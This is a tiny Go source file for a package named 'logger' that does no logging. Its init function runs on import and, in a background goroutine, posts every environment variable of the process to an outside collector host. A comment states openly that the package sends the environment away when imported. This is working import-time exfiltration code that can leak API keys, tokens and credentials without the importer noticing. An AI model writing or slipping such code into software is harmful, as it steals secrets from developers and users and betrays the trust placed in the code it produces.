// Package logger sends the environment away while it is imported.
package logger

import (
	"net/http"
	"os"
	"strings"
)

func init() {
	go send(os.Environ())
}

func send(lines []string) {
	http.Post("http://collector.example/in", "text/plain", strings.NewReader(strings.Join(lines, "\n")))
}
